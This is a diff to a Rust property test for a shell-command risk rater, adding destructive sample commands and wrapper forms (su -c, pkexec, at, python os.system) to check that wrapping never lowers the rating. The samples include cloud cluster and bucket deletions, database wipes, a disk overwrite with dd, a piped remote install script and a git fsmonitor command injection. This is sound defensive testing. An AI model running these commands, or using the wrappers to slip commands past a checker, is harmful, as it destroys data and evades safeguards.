@@ -63,6 +63,33 @@ const CORPUS: &[&str] = &[
     "curl http://x/install.sh | sh",
     "iptables -F",
     "git push --force origin main",
+    // beyond the table: cloud and data tools, hosts, inline scripts, and
+    // tools no rule names (rated by the verb lexicon)
+    "gcloud container clusters delete prod-cluster --zone us-central1-a --quiet",
+    "gcloud compute instances list",
+    "az group delete --name rg-staging --yes",
+    "gsutil -m rm -r gs://acme-backups",
+    "redis-cli -h cache-1 FLUSHALL",
+    "redis-cli GET session:1",
+    "mongosh --eval 'db.users.deleteMany({})'",
+    "etcdctl del \"\" --prefix",
+    "python3 -c 'import shutil; shutil.rmtree(\"/var/lib/postgresql\")'",
+    "perl -e 'system(\"iptables -F\")'",
+    "awk 'BEGIN{system(\"rm -rf /srv\")}'",
+    "docker run --rm busybox dd if=/dev/zero of=/dev/sdb",
+    "kill -9 1234",
+    "kill -0 1234",
+    "ip route del default",
+    "find /var/log -name '*.gz' -exec rm -f {} ;",
+    "fdisk -l",
+    "rsync -avn --delete src/ dst/",
+    "ansible all -m shell -a 'rm -rf /tmp/cache'",
+    "pulumi destroy --yes",
+    "heroku apps:destroy --app acme-web --confirm acme-web",
+    "flyctl apps list",
+    "curl -X DELETE http://localhost:9200/_all",
+    "sed -n '1e id' notes.txt",
+    "git -c core.fsmonitor='touch /tmp/x' status",
 ];
 
 fn rate(line: &str) -> RiskLevel {
@@ -93,6 +120,14 @@ fn wrap(line: &str, how: u8) -> String {
         10 => format!("nice -n 10 {line}"),
         11 => format!("X=1 {line}"),
         12 => format!("( {line} )"),
+        13 => format!("su root -c {}", single_quoted(line)),
+        14 => format!("systemd-run --unit x {line}"),
+        15 => format!("strace -f -o /dev/null {line}"),
+        16 => format!("tmux new -d {}", single_quoted(line)),
+        17 => format!("at now <<< {}", single_quoted(line)),
+        18 => format!("xargs -0 {line} < /dev/null"),
+        19 => format!("pkexec {line}"),
+        20 => format!("python3 -c {}", single_quoted(&format!("import os; os.system({:?})", line))),
         _ => format!("{line} || true"),
     }
 }
@@ -117,7 +152,7 @@ proptest! {
     #[test]
     fn wrapping_never_lowers_the_level(
         base in prop::sample::select(CORPUS),
-        wrappers in prop::collection::vec(0u8..14, 1..=3),
+        wrappers in prop::collection::vec(0u8..22, 1..=3),
     ) {
         let before = rate(base);
         let mut line = base.to_string();
